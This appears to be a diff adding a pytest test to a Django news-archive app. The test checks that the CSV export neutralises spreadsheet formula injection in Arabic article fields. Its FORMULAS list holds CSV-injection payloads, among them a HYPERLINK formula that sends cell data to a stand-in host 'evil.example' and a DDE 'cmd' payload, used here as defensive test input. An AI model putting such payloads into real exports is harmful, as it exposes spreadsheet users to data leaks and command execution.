@@ -8,7 +8,9 @@ import xml.etree.ElementTree as ET
 import pytest
 from django.urls import reverse
 
-from .archive_data import RELATED_TITLE, SEED_TITLE, build_archive, many_articles
+from articles.models import Article, Location, Party, Source
+
+from .archive_data import RELATED_TITLE, SEED_TITLE, build_archive, many_articles, mention
 
 pytestmark = pytest.mark.django_db
 
@@ -83,6 +85,51 @@ def test_csv_export_opens_in_excel_with_arabic(reader, archive):
     assert [row["title"] for row in rows] == [SEED_TITLE, RELATED_TITLE]
     assert rows[0]["source"] == "روزنة"
     assert set(rows[0]["places"].split("؛ ")) == {"درعا", "طفس"}
+
+
+# What a hostile or unlucky text may start with (OWASP's list of formula triggers).
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"اضغط هنا")',
+    "+1+cmd|' /C calc'!A0",
+    "-5 قتلى في درعا",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_export_cells_never_begin_with_a_formula_character(reader, archive):
+    source = Source.objects.create(name_ar="=مصدر")
+    place = Location.objects.create(name_ar="+مكان", kind="town", parent=archive.daraa)
+    party = Party.objects.create(name_ar="@طرف")
+    for n, title in enumerate(FORMULAS):
+        article = Article.objects.create(
+            title=title,
+            body="نص الخبر.",
+            source=source,
+            byline="-مراسل",
+            url="=WEBSERVICE(1)",
+            origin=f"=ملف{n}.txt",
+            fingerprint=f"formula-{n}",
+        )
+        mention(article, place)
+        mention(article, party)
+
+    content = streamed(reader.get(reverse("article-export-csv"))).decode("utf-8-sig")
+
+    rows = list(csv.reader(io.StringIO(content)))
+    assert len(rows) == 1 + 3 + len(FORMULAS)
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    titles = {row["title"] for row in csv.DictReader(io.StringIO(content))}
+    # Shown as the text it is, behind the apostrophe spreadsheets hide; other text untouched.
+    assert {"'" + title for title in FORMULAS} <= titles
+    assert "'-5 قتلى في درعا" in titles  # a number first reads as text too: accepted
+    assert SEED_TITLE in titles
+    hostile = next(r for r in csv.DictReader(io.StringIO(content)) if r["title"] == "'@SUM(1+1)")
+    assert hostile["source"] == "'=مصدر" and hostile["byline"] == "'-مراسل"
+    assert hostile["places"] == "'+مكان" and hostile["parties"] == "'@طرف"
+    assert hostile["url"] == "'=WEBSERVICE(1)" and hostile["origin"].startswith("'=ملف")
 
 
 def test_csv_export_of_a_bad_filter_is_refused_with_a_message(reader, archive):
